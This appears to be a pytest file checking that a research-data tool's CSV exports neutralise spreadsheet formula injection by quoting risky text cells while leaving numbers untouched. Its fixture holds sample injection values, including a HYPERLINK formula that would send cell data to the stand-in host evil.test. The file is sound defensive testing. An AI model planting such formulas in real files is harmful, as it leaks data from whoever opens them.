"""CSV cells are spreadsheet-safe (OWASP "CSV Injection"): text beginning with = + - @ tab or CR gets a leading
quote in every CSV placebolab writes; numbers are untouched; the analysis reads back exactly what was recorded."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from click.testing import CliRunner

from placebolab.analysis.exported import load_export
from placebolab.cli import main
from placebolab.export import export_study
from tests.export.probe import probe_study, run_participant

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: participant → (intake remark, intake change, correction kind, reason)
HOSTILE = {
    '=HYPERLINK("http://evil.test/?"&A1,"open")': ("@SUM(1)", -3.5, None, None),
    "+1": ("-5", -7, "withdrawn", "-felt unwell"),
    "-P3": ("=1+1", 2.25, "excluded", "\tleft early"),
    "@P4": ("'=already quoted", -0.5, "withdrawn", "\rcarriage return"),
    "P005": ("all fine", 4, None, None),
}


@pytest.fixture
def exported(tmp_path):
    study = probe_study(tmp_path)
    for seed, (participant, (remark, change, kind, reason)) in enumerate(HOSTILE.items()):
        run_participant(study, participant, seed, remark=remark, change=change)
        if kind:
            done = CliRunner().invoke(
                main, ["correct", str(study.folder), f"--participant={participant}", "--as", kind, f"--reason={reason}"]
            )
            assert done.exit_code == 0, done.output
    yield export_study(study, formats=("csv", "parquet", "sav"))
    study.close()


def _cells(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_text_cells_get_a_quote_and_numbers_stay_numbers(exported):
    wide = {row["participant"]: row for row in _cells(exported / "wide.csv")}
    assert set(wide) == {"'" + p if p[0] in TRIGGERS else p for p in HOSTILE}
    for participant, (remark, change, _, reason) in HOSTILE.items():
        row = wide["'" + participant if participant[0] in TRIGGERS else participant]
        assert row["remark"] == {"all fine": "all fine", "'=already quoted": "''=already quoted"}.get(
            remark, "'" + remark
        )
        assert row["disposition_reason"] == ("'" + reason if reason else "")
        assert float(row["change"]) == change and not row["change"].startswith("'")  # -3.5 stays -3.5
    for name in ("long.csv", "steps.csv"):
        assert {r["participant"] for r in _cells(exported / name)} == set(wide), name
    long = _cells(exported / "long.csv")
    assert {r["disposition_reason"] for r in long} == {"", "'-felt unwell", "'\tleft early", "'\rcarriage return"}
    book = {r["name"]: r for r in _cells(exported / "codebook.csv")}
    assert book["remark"]["label"] == "'- anything to note?"


def test_no_csv_cell_starts_a_formula(exported):
    """Every CSV of the export: a cell that begins with a trigger character is a number, nothing else."""
    checked = 0
    for path in sorted(exported.glob("*.csv")):
        for row in _cells(path):
            for cell in row.values():
                if cell.startswith(TRIGGERS):
                    float(cell)  # raises for text: only numbers may start with - or +
                    checked += 1
    assert checked  # negative numbers were there to be left alone


def test_the_analysis_and_the_typed_formats_see_what_was_recorded(exported):
    from placebolab.export.spreadsheet import unescape

    wide = load_export(exported).wide.set_index("participant")
    assert set(wide.index) == set(HOSTILE)
    for participant, (remark, change, _, reason) in HOSTILE.items():
        assert wide.loc[participant, "remark"] == remark
        assert wide.loc[participant, "change"] == change
        assert (wide.loc[participant, "disposition_reason"] if reason else None) == (reason or None)
    long = pd.read_csv(exported / "long.csv", dtype=str, keep_default_na=False).apply(unescape)
    assert set(long.participant) == set(HOSTILE)
    # Parquet and .sav hold typed values that no spreadsheet runs as formulas: written as recorded
    typed = pd.read_parquet(exported / "wide.parquet")
    assert set(typed.participant) == set(HOSTILE) and set(typed.remark) == {r for r, *_ in HOSTILE.values()}
    assert set(pd.read_parquet(exported / "long.parquet").participant) == set(HOSTILE)


def test_write_csv_escapes_text_not_numbers(tmp_path):
    from placebolab.export.spreadsheet import unescape, write_csv

    table = pd.DataFrame(
        {"mixed": [-3.5, "-3.5", "=x", None], "number": [-1.0, 2.0, -0.25, float("nan")], "flag": [True] * 4}
    )
    text = write_csv(table, tmp_path / "t.csv").read_text()
    assert text.splitlines() == ["mixed,number,flag", "-3.5,-1.0,True", "'-3.5,2.0,True", "'=x,-0.25,True", ",,True"]
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False).apply(unescape)
    assert list(back["mixed"]) == ["-3.5", "-3.5", "=x", ""]
